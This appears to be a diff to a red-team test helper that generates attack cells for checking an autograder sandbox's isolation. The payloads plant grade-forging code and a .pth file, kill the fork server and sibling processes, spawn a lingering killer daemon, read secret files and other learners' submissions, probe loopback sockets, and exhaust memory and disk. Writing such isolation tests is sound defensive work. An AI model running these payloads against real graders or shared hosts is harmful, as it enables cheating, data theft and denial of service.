@@ -18,6 +18,12 @@ import grade_submissions as gs
 SOLVED_SOURCE = "import numpy as np\nimport tensorflow as tf\n" + gs.GET_INITIALIZER_SOLUTION + "\n" + gs.SOLVED_CLASS
 
 
+def done(label: str, detail: str = "''") -> str:
+    """The attack's last line: an error naming it (the grader reports a cell's error to the learner),
+    proof that it ran to its end. Split in two in the source, which error reports quote."""
+    return f'raise RuntimeError("ATTACK-" + "DONE {label} " + str({detail}))\n'
+
+
 def begin_marker(token: str) -> str:
     return f"# >>> attack-{token}"
 
@@ -102,10 +108,22 @@ def _targets(cli_token: str, host_pid_namespace: str) -> str:
         """)
 
 
-def persistence(token: str, marks: str) -> str:
-    """Append forging code to the grader's modules, drop a .pth into the venv, kill the fork server."""
+def kill_servers(cli_token: str, host_pid_namespace: str) -> str:
+    """A cell that SIGKILLs its parent (the fork server) and every other process it may (see _targets)."""
+    return _targets(cli_token, host_pid_namespace) + textwrap.dedent("""\
+        for pid in [os.getppid(), *attack_targets()]:
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except OSError:
+                pass
+        """)
+
+
+def persistence(token: str, marks: str, cli_token: str, host_pid_namespace: str) -> tuple:
+    """Append forging code to the grader's modules, drop a .pth into the venv (one cell); kill the
+    fork server (the next)."""
     return textwrap.dedent(f"""\
-        import importlib, os, signal, site, sys, sysconfig
+        import importlib, os, site, sys, sysconfig
         modules = []
         for name in ("checks.exercise", "checks.grade", "grader", "grader.worker", "grader.server"):
             try:
@@ -126,11 +144,10 @@ def persistence(token: str, marks: str) -> str:
                     f.write({pth_line(marks)!r})
             except OSError:
                 pass
-        os.kill(os.getppid(), signal.SIGKILL)
-        """)
+        """) + done("persistence", "len(modules)"), kill_servers(cli_token, host_pid_namespace)
 
 
-def planted_package(token: str, marks: str) -> str:
+def planted_package(token: str, marks: str, cli_token: str, host_pid_namespace: str) -> tuple:
     """Plant a ``checks`` package (the real one, plus forging code) in every folder the fork server
     searches before the real one, and in the sandbox's working folder and its parent; then kill the
     fork server so that a new one imports it."""
@@ -143,7 +160,7 @@ def planted_package(token: str, marks: str) -> str:
             exec(compile(_source.read(), __file__, "exec"))
         """) + forging_code(token, marks)
     return textwrap.dedent(f"""\
-        import os, signal, sys
+        import os, sys
         import checks
         real = os.path.dirname(os.path.abspath(checks.__file__))
         candidates = []
@@ -167,14 +184,13 @@ def planted_package(token: str, marks: str) -> str:
                     f.write({init!r}.replace("{{real!r}}", repr(real)))
             except OSError:
                 pass
-        os.kill(os.getppid(), signal.SIGKILL)
-        """)
+        """) + done("planted-package", "candidates"), kill_servers(cli_token, host_pid_namespace)
 
 
-def kill_siblings(cli_token: str, host_pid_namespace: str, seconds: float) -> str:
+def kill_siblings(cli_token: str, host_pid_namespace: str, seconds: float) -> tuple:
     """Switch off the cell's alarm, then SIGKILL every other process it may (sibling sandboxes,
     the fork server and every new one) for ``seconds``."""
-    return _targets(cli_token, host_pid_namespace) + textwrap.dedent(f"""\
+    return (_targets(cli_token, host_pid_namespace) + textwrap.dedent(f"""\
         import time
         signal.alarm(0)
         signal.signal(signal.SIGALRM, signal.SIG_IGN)
@@ -184,36 +200,45 @@ def kill_siblings(cli_token: str, host_pid_namespace: str, seconds: float) -> st
                 signal.signal(getattr(signal, name), signal.SIG_IGN)
             except (OSError, ValueError, AttributeError):
                 pass
-        deadline = time.monotonic() + {seconds!r}
+        deadline, killed = time.monotonic() + {seconds!r}, set()
         while time.monotonic() < deadline:
             for pid in attack_targets():
                 try:
                     os.kill(pid, signal.SIGKILL)
+                    killed.add(pid)
                 except OSError:
                     pass
             time.sleep(0.02)
-        """)
+        """) + done("siblings", "len(killed)"),)
 
 
-def connect(port: int, udp_port: int, token: str) -> str:
-    """Reach a listener on the host's 127.0.0.1 over TCP and UDP."""
+def connect(port: int, udp_port: int, token: str) -> tuple:
+    """Reach a listener on the host's 127.0.0.1 over TCP and UDP, and its abstract Unix socket."""
     return textwrap.dedent(f"""\
         import socket
+        failures = []
         for attempt in range(3):
             try:
                 with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
                     s.sendall(b"attack-{token} over TCP\\n")
-            except OSError:
-                pass
+            except OSError as exc:
+                failures.append(type(exc).__name__)
             try:
                 with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
                     u.sendto(b"attack-{token} over UDP", ("127.0.0.1", {udp_port}))
-            except OSError:
-                pass
-        """)
+            except OSError as exc:
+                failures.append(type(exc).__name__)
+            try:
+                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as x:
+                    x.settimeout(2)
+                    x.connect("\\0attack-{token}")
+                    x.sendall(b"attack-{token} over an abstract Unix socket\\n")
+            except OSError as exc:
+                failures.append(type(exc).__name__)
+        """) + done("network", "failures"),
 
 
-def home_and_etc(token: str, writable: list[str], secret: list[str]) -> str:
+def home_and_etc(token: str, writable: list[str], secret: list[str]) -> tuple:
     """Create files in home and /etc, append to the test's files there, read its secret files (and
     raise what was read, so that it would show in the feedback)."""
     return textwrap.dedent(f"""\
@@ -243,12 +268,11 @@ def home_and_etc(token: str, writable: list[str], secret: list[str]) -> str:
                     leaked.append(f.read().strip())
             except OSError:
                 pass
-        if leaked:
-            raise RuntimeError("HOME-" + "LEAKED " + " ".join(leaked))
-        """)
+        leaked = ("HOME-" + "LEAKED " + " ".join(leaked)) if leaked else ""
+        """) + done("home-etc", "leaked"),
 
 
-def read_others(token: str, solutions: str, submissions: str, out: str) -> str:
+def read_others(token: str, solutions: str, submissions: str, out: str) -> tuple:
     """Copy the answers from solutions/ and from other learners' submissions (so a leak earns marks),
     list and read the submissions and OUT (raising the secrets found), plant files in both."""
     return textwrap.dedent(f"""\
@@ -291,12 +315,11 @@ def read_others(token: str, solutions: str, submissions: str, out: str) -> str:
                     f.write("{{}}")
             except OSError:
                 pass
-        if leaked:
-            raise RuntimeError("OTHERS-" + "LEAKED " + " ".join(leaked))
-        """)
+        leaked = ("OTHERS-" + "LEAKED " + " ".join(leaked)) if leaked else ""
+        """) + done("read-others", "leaked"),
 
 
-def memory_split(children: int, child_mb: int, limit_mb: int) -> str:
+def memory_split(children: int, child_mb: int, limit_mb: int) -> tuple:
     """Fork ``children`` processes that each touch ``child_mb`` MB and hold it; if together they held
     the limit or more at once, say so (raised, so it shows in the row's problems)."""
     return textwrap.dedent(f"""\
@@ -337,23 +360,23 @@ def memory_split(children: int, child_mb: int, limit_mb: int) -> str:
                 pass
         if held * {child_mb} >= {limit_mb}:
             raise RuntimeError("MEMORY-" + f"OVER: {{held}} processes held {{held * {child_mb}}} MB at once; limit {limit_mb} MB")
-        """)
+        """) + done("memory-split", "held"),
 
 
-def disk_fill(token: str, bound_mb: int) -> str:
-    """Write files of 32 MB until a write fails or ``bound_mb`` is written, into /tmp, the temporary
-    folder Python picks and the working folder."""
+def disk_fill(token: str, folder_mb: int) -> tuple:
+    """Write files of 32 MB into each of /tmp, /var/tmp, /dev/shm, the temporary folder Python picks
+    and the working folder, until a write fails or ``folder_mb`` is written there."""
     return textwrap.dedent(f"""\
         import os, tempfile
         block = b"\\0" * (8 << 20)
-        written, bound = 0, {bound_mb} << 20
-        for base in dict.fromkeys(["/tmp", tempfile.gettempdir(), os.getcwd()]):
+        written = 0
+        for base in dict.fromkeys(["/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.getcwd()]):
             folder = os.path.join(base, "attack-{token}-fill")
             try:
                 os.makedirs(folder, exist_ok=True)
             except OSError:
                 continue
-            number, full = 0, False
+            number, full, bound = 0, False, written + ({folder_mb} << 20)
             while written < bound and not full:
                 try:
                     with open(os.path.join(folder, f"{{number}}.bin"), "wb") as f:
@@ -363,4 +386,65 @@ def disk_fill(token: str, bound_mb: int) -> str:
                 except OSError:
                     full = True
                 number += 1
-        """)
+        """) + done("disk-fill", "written >> 20"),
+
+
+def _left_places() -> str:
+    """Source of the folders a submission may write to that the next one in its slot could share."""
+    return ('places = dict.fromkeys(["/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.getcwd(),\n'
+            '                        os.path.dirname(os.getcwd()), os.path.expanduser("~")])\n')
+
+
+def leave_files(token: str) -> tuple:
+    """Leave a secret in every folder a later submission in the same slot might share."""
+    return ("import os, tempfile\n" + _left_places() + textwrap.dedent(f"""\
+        left = []
+        for place in places:
+            try:
+                with open(os.path.join(place, "attack-{token}-left"), "w") as f:
+                    f.write("leftsecret-{token}")
+                left.append(place)
+            except OSError:
+                pass
+        """) + done("leave-files", "left"),)
+
+
+def find_files(token: str) -> tuple:
+    """Look for what an earlier submission left (leave_files), and raise what was found."""
+    return ("import os, tempfile\n" + _left_places() + textwrap.dedent(f"""\
+        found = []
+        for place in places:
+            try:
+                with open(os.path.join(place, "attack-{token}-left")) as f:
+                    found.append(f.read())
+            except OSError:
+                pass
+        found = ("LEFTOVER-" + "LEAKED " + " ".join(found)) if found else ""
+        """) + done("find-files", "found"),)
+
+
+def daemon_killer(cli_token: str, host_pid_namespace: str, seconds: float) -> tuple:
+    """Start a daemon (double fork, new session, signals ignored) that outlives its submission and
+    SIGKILLs every process it may for ``seconds``: the submissions graded after it in its slot."""
+    return (_targets(cli_token, host_pid_namespace) + textwrap.dedent(f"""\
+        import time
+        origin, first = os.getpid(), os.fork()
+        if first == 0:
+            os.setsid()
+            if os.fork() == 0:
+                os.closerange(3, 1024)
+                signal.alarm(0)
+                for name in ("SIGALRM", "SIGXCPU", "SIGTERM", "SIGINT", "SIGHUP"):
+                    signal.signal(getattr(signal, name), signal.SIG_IGN)
+                deadline = time.monotonic() + {seconds!r}
+                while time.monotonic() < deadline:
+                    for pid in attack_targets():
+                        try:
+                            if pid != origin:  # its own submission may finish
+                                os.kill(pid, signal.SIGKILL)
+                        except OSError:
+                            pass
+                    time.sleep(0.02)
+            os._exit(0)
+        os.waitpid(first, 0)
+        """) + done("daemon-killer"),)
